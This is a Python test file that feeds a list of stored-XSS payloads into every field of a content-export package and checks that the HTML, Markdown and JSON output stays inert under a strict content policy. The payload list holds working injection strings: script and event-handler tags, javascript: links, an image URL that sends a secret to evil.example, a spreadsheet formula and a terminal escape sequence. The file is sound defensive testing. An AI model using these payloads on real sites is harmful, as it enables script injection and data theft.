"""Stored XSS: whatever a model or a scraped page puts into any field, nothing active reaches a page."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from exports.package.model import MonthPackage
from exports.package.write import write
from tests.handover_month import MemoryFiles, month

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<a href="#" onclick="alert(1)">x</a>',
    "--><script>alert(1)</script><!--",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    '<a href="https://x.example" ping="https://evil.example">x</a>',
    "{{constructor.constructor('alert(1)')()}}{% raw %}{#",
    "<//evil.example/><a href=//evil.example>x</a>",
    "![x](https://evil.example/?q=secret)",
    "</script><script>alert(1)</script>",
    '","author":{"name":"evil"},"x":"',
    "=HYPERLINK(\"https://evil.example\")",
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J",
    '" onload="alert(1)" x="',
    "' onmouseover='alert(1)",
    "</title></style></textarea><script>alert(1)</script>",
    "\\[x](javascript:alert(1)) \\\\[x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "<javascript:alert(1)> <https://evil.example>",
    "]]><![CDATA[<script>alert(1)</script>",
    "---\nsandbox: false\n---\n<script>alert(1)</script>",
]  # fmt: skip

_ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "math",
    "template",
    "frame",
    "applet",
    "xmp",
}
_ADDRESSES = {"src", "href", "poster", "data", "action", "formaction", "srcset", "background"}


class Judge(HTMLParser):
    """Reads a page as a browser does and lists what would run, call out or lead elsewhere than a web page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.policy = ""
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self._script = values
            return
        if tag == "meta" and values.get("http-equiv") == "Content-Security-Policy":
            self.policy = values.get("content") or ""
        elif tag in _ACTIVE or (tag == "meta" and "http-equiv" in values):
            self.found.append(tag)
        self.found += [f"{tag} {name}={value}" for name, value in attrs if _bad(tag, name, value or "")]

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self.scripts.append((self._script, data))
            self._script = None


def _bad(tag: str, name: str, value: str) -> bool:
    if name.startswith("on") or name in {"style", "srcdoc", "ping"}:
        return True
    if name not in _ADDRESSES:
        return False
    compact = re.sub(r"[\x00-\x20]", "", value).lower()
    if tag == "a":
        return bool(re.match(r"(?!https?:|mailto:)[a-z]+:|//", compact))
    return bool(re.match(r"[a-z]+:|//", compact))


def judged(html: str) -> Judge:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge


def poisoned(value: Any, payload: str, spared: tuple[str, ...] = ()) -> Any:
    """Put the payload into every string, except under the named keys."""
    if isinstance(value, str):
        return f"{value} {payload}"
    if isinstance(value, dict):
        return {key: item if key in spared else poisoned(item, payload) for key, item in value.items()}
    return [poisoned(item, payload) for item in value] if isinstance(value, list | tuple) else value


def poisoned_month(payload: str, files: MemoryFiles) -> MonthPackage:
    package = month(files)
    assert package.dna
    post = package.posts[0]
    topic = replace(
        post.topic, content=poisoned(dict(post.topic.content), payload, ("plannedDate", "personaId", "item"))
    )
    post = replace(
        post,
        topic=topic,
        post=poisoned(dict(post.post), payload),
        social=tuple(replace(s, caption=f"{s.caption} {payload}", text=payload) for s in post.social),
        images=tuple(
            replace(i, alt_text=payload, prompt=payload, provider=payload, platforms=(*i.platforms, payload))
            for i in post.images
        ),
        video=replace(post.video, alt_text=payload, prompt=payload) if post.video else None,
        provenance=replace(post.provenance, findings=(payload,)),
    )
    return replace(
        package,
        posts=(post,),
        company=replace(package.company, name=f"Firma {payload}", website=payload, business_field=payload),
        dna=replace(package.dna, content=poisoned(dict(package.dna.content), payload)),
        personas=tuple(replace(p, content=poisoned(dict(p.content), payload)) for p in package.personas),
        approvals=tuple(
            replace(a, reason=payload, decided_by=payload, decision=payload) for a in package.approvals
        ),
        outcomes=tuple(replace(o, reason=payload, item=payload, code=payload) for o in package.outcomes),
    )


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_payload_in_every_field_leaves_nothing_active_on_any_page(
    payload: str, tmp_path: Path
) -> None:
    files = MemoryFiles()
    written = await write(poisoned_month(payload, files), files, tmp_path / "out")
    pages = [path for path in written.paths if path.endswith(".html")]
    assert len(pages) == 2
    for page in pages:
        html = (tmp_path / "out" / page).read_text("utf-8")
        judge = judged(html)
        assert judge.found == []
        assert "\x1b" not in html
        for attributes, text in judge.scripts:
            if attributes.get("type") == "application/ld+json":
                json.loads(text)
            else:
                assert page == "index.html"
                assert _digest(text) in judge.policy
        assert len(judge.scripts) == 1


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_payload_in_the_markdown_stays_text_even_where_html_is_let_through(
    payload: str, tmp_path: Path
) -> None:
    files = MemoryFiles()
    written = await write(poisoned_month(payload, files), files, tmp_path / "out")
    path = next(path for path in written.paths if path.endswith("post.md"))
    body = (tmp_path / "out" / path).read_text("utf-8").split("\n---\n", 1)[1]
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    judge = judged(md.render(body))
    assert judge.found == []
    assert judge.scripts == []


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_payload_in_the_html_for_import_is_gone(payload: str, tmp_path: Path) -> None:
    files = MemoryFiles()
    written = await write(poisoned_month(payload, files), files, tmp_path / "out")
    path = next(path for path in written.paths if path.endswith("post.json"))
    judge = judged(json.loads((tmp_path / "out" / path).read_text("utf-8"))["content_html"])
    assert judge.found == []
    assert judge.scripts == []


async def test_a_page_allows_its_own_style_and_script_and_no_other(tmp_path: Path) -> None:
    files = MemoryFiles()
    await write(month(files), files, tmp_path / "out")
    policy = judged((tmp_path / "out" / "index.html").read_text("utf-8")).policy
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    assert "base-uri 'none'; form-action 'none'" in policy


def _digest(text: str) -> str:
    return base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
